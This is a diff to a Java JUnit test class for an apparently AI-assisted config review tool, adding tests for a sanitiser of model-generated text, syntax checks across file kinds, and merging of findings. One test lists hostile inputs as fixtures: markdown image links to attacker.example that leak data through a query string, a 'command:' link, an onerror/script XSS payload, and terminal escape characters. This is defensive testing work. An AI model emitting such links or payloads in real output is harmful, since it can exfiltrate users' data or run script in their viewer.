@@ -185,19 +185,134 @@ class ValidationTest {
     }
 
     @Test
-    void mergeLetsTheRuleBookWin() {
+    void modelTextIsOneInertLine() {
+        org.commonmark.parser.Parser md = org.commonmark.parser.Parser.builder().build();
+        List<String> hostile = List.of(
+                "![x](https://attacker.example/leak?q=1)",
+                "[a](command:workbench.action.terminal.new) and <command:rm> and <https://ok.example/>",
+                "[![img](https://attacker.example/i.png)](https://attacker.example/l)",
+                "!<b></b>[x](https://attacker.example/b)",
+                "![y][r]\n\n[r]: https://attacker.example/r",
+                "<img src=x onerror=alert(1)> <script>alert(1)</script> <!-- c --> <?php ?>",
+                "\\<img src=https://attacker.example/e.png>",
+                "[x]\n(https://attacker.example/split)",
+                "a\u001B[31mb\u001B[0mc\u009B2Jd\u0000e\u0007f\u202Eg\u200Bh");
+        for (String h : hostile) {
+            String out = ModelText.line(h, 300);
+            assertFalse(out.contains("\n") || out.contains("\u001B") || out.contains("\u202E") || out.contains("\u200B")
+                    || out.chars().anyMatch(Character::isISOControl), out);
+            org.commonmark.node.Node doc = md.parse(out);
+            List<String> found = new java.util.ArrayList<>();
+            doc.accept(new org.commonmark.node.AbstractVisitor() {
+                @Override
+                public void visit(org.commonmark.node.Image n) {
+                    found.add("image");
+                }
+
+                @Override
+                public void visit(org.commonmark.node.Link n) {
+                    found.add("link " + n.getDestination());
+                }
+
+                @Override
+                public void visit(org.commonmark.node.HtmlInline n) {
+                    found.add("html " + n.getLiteral());
+                }
+
+                @Override
+                public void visit(org.commonmark.node.HtmlBlock n) {
+                    found.add("html block " + n.getLiteral());
+                }
+            });
+            assertEquals(List.of(), found, h + " -> " + out);
+            assertFalse(out.contains("attacker.example/leak") || out.contains("command:"), out);
+        }
+        assertEquals("abcd e fgh", ModelText.line(hostile.get(hostile.size() - 1), 300));
+        assertEquals("a and and https://ok.example/", ModelText.line(hostile.get(1), 300));
+        // code-like text reads as written: backslashes, asterisks, underscores stay
+        assertEquals("location ~* \\.php$ sets *_TIMEOUT to `30s`", ModelText.line("location ~* \\.php$ sets *_TIMEOUT to `30s`", 300));
+        String capped = ModelText.line("x".repeat(296) + "\uD83D\uDE00" + "y".repeat(10), 300);
+        assertEquals(300, capped.length() + 1, capped);
+        assertTrue(capped.endsWith("x..."), "a surrogate pair is never cut in half");
+        assertEquals("", ModelText.line(null, 10));
+    }
+
+    @Test
+    void syntaxCheckCoversEveryKindWithAParser() {
+        record Case(String path, FileKind kind, String before, String broken, String fine) {
+        }
+        List<Case> cases = List.of(
+                new Case("Dockerfile", FileKind.DOCKERFILE, "FROM a:1\nRUN x\n", "FROM a:1\nRUN <<EOF\nx\n", "FROM a:1\nRUN y\n"),
+                new Case("app.properties", FileKind.SPRING_PROPERTIES, "a=1\n", "a=\\u12\n", "a=2\n"),
+                new Case("default.conf", FileKind.NGINX, "events {}\n", "events {\n", "events { }\n"),
+                new Case("s.sql", FileKind.SQL, "SELECT 'a';\n", "SELECT 'a;\n", "SELECT 'b';\n"),
+                new Case("main.tf", FileKind.TERRAFORM, "a = 1\n", "a = \"1\n", "a = 2\n"),
+                new Case(".env", FileKind.DOTENV, "A=1\n", "A=\"1\nB=2\n", "A=2\n"),
+                new Case("c.yml", FileKind.COMPOSE, "a: 1\n", "a: [1\n", "a: 2\n"),
+                new Case("api.json", FileKind.OPENAPI, "{\"a\": 1}", "{\"a\": 1", "{\"a\": 2}"));
+        for (Case c : cases) {
+            SourceFile f = file(c.path(), c.before(), c.kind());
+            assertFalse(SyntaxCheck.stillValid(f, c.broken()), c.toString());
+            assertTrue(SyntaxCheck.stillValid(f, c.fine()), c.toString());
+        }
+        // a file that was already broken may stay as broken, not get worse
+        SourceFile broken = file("default.conf", "events {\n", FileKind.NGINX);
+        assertTrue(SyntaxCheck.stillValid(broken, "events {\nworker_connections 10;\n"));
+        assertFalse(SyntaxCheck.stillValid(broken, "events {\n;\n;\n"));
+    }
+
+    @Test
+    void mergeDropsAnAgentFindingOnlyForTheSameIssueAtTheSamePlace() {
         String text = "services:\n  api:\n    image: shop/api:latest\n    privileged: true\n";
         int img = text.indexOf("shop/api:latest");
         Finding rule = new Finding("compose/no-latest-tag", Severity.WARNING, Category.RELIABILITY,
-                new TextRange(img, img + 15), "pin", null, List.of(), List.of(), Set.of(), Finding.RULE_BOOK_SOURCE, null);
-        Finding sameCategory = agent("agent/unpinned-image", Category.RELIABILITY, img + 9, img + 15);
+                new TextRange(img, img + 15), "shop/api uses the latest tag; pin a version", null, List.of(), List.of(),
+                Set.of(), Finding.RULE_BOOK_SOURCE, null);
+        Finding synonym = agent("agent/unpinned-image", Category.RELIABILITY, img + 9, img + 15);
         Finding sameRule = agent("agent/no-latest-tag", Category.MAINTAINABILITY, img - 7, img - 2);
-        Finding otherCategory = agent("agent/mutable-image", Category.SECURITY, img, img + 15);
+        Finding otherIssueSameCategory = agent("agent/registry-provenance", Category.RELIABILITY, img, img + 15);
+        Finding otherIssueOtherCategory = agent("agent/mutable-image", Category.SECURITY, img, img + 15);
         int priv = text.indexOf("privileged");
-        Finding elsewhere = agent("agent/privileged", Category.RELIABILITY, priv, priv + 16);
-        List<Finding> merged = FindingMerger.merge(List.of(rule), List.of(sameCategory, sameRule, otherCategory, elsewhere), text);
-        assertEquals(List.of("compose/no-latest-tag", "agent/mutable-image", "agent/privileged"),
+        Finding sameIssueElsewhere = agent("agent/latest-tag", Category.RELIABILITY, priv, priv + 16);
+        List<Finding> merged = FindingMerger.merge(List.of(rule), List.of(synonym, sameRule, otherIssueSameCategory,
+                otherIssueOtherCategory, sameIssueElsewhere), text);
+        assertEquals(List.of("compose/no-latest-tag", "agent/registry-provenance", "agent/mutable-image", "agent/latest-tag"),
                 merged.stream().map(Finding::ruleId).toList());
+    }
+
+    @Test
+    void aDifferentIssueOnTheRuleBooksLineStaysAndTheSameIssueGoes() {
+        // the issue's example: docker/root-user sits on the FROM line; the agent's provenance finding is another issue
+        String text = "FROM registry.example/base/node:20\nCMD [\"node\", \"s.js\"]\n";
+        Finding root = new Finding("docker/root-user", Severity.WARNING, Category.SECURITY, new TextRange(0, 4),
+                "The final image runs as root: add a USER", null, List.of(), List.of(), Set.of(), Finding.RULE_BOOK_SOURCE, null);
+        Finding provenance = new Finding("agent/base-image-provenance", Severity.WARNING, Category.SECURITY,
+                new TextRange(5, 34), "The base image comes from an unverified registry", "x", List.of(), List.of(),
+                Set.of(), "archlens/backend-architecture-expert", 0.9);
+        Finding asRoot = new Finding("agent/container-runs-as-root", Severity.WARNING, Category.SECURITY,
+                new TextRange(0, 34), "The process runs as root", "x", List.of(), List.of(), Set.of(),
+                "archlens/backend-architecture-expert", 0.9);
+        Finding vague = new Finding("agent/finding", Severity.WARNING, Category.SECURITY, new TextRange(0, 34),
+                "No USER instruction: the container runs as root", "x", List.of(), List.of(), Set.of(),
+                "archlens/backend-architecture-expert", 0.9);
+        assertEquals(List.of("docker/root-user", "agent/base-image-provenance"),
+                FindingMerger.merge(List.of(root), List.of(provenance, asRoot, vague), text).stream()
+                        .map(Finding::ruleId).toList());
+        assertEquals("The final image runs as root", io.archlens.analysis.RuleBook.loadDefault().rule("docker/root-user")
+                .orElseThrow().title(), "the rule's title is part of what it describes");
+    }
+
+    @Test
+    void sameIssueComparesTopicsNotWording() {
+        assertTrue(SameIssue.same("missing-healthcheck", "", "compose/dependency-without-healthcheck",
+                "Dependency without a healthcheck", ""));
+        assertTrue(SameIssue.same("NoMemoryLimits", "", "compose/no-resource-limits", "Service has no memory or CPU limit", ""));
+        assertTrue(SameIssue.same("hardcoded-password", "", "compose/literal-secret",
+                "Secret written as a literal in environment", ""));
+        assertFalse(SameIssue.same("db-single-replica", "", "compose/unpinned-image", "Image is not pinned to a version", ""));
+        assertFalse(SameIssue.same("missing-healthcheck", "", "compose/no-resource-limits",
+                "Service has no memory or CPU limit", ""));
+        assertEquals(Set.of("pin"), SameIssue.words("unpinned images pinned latest tags"));
     }
 
     static Finding agent(String id, Category c, int s, int e) {
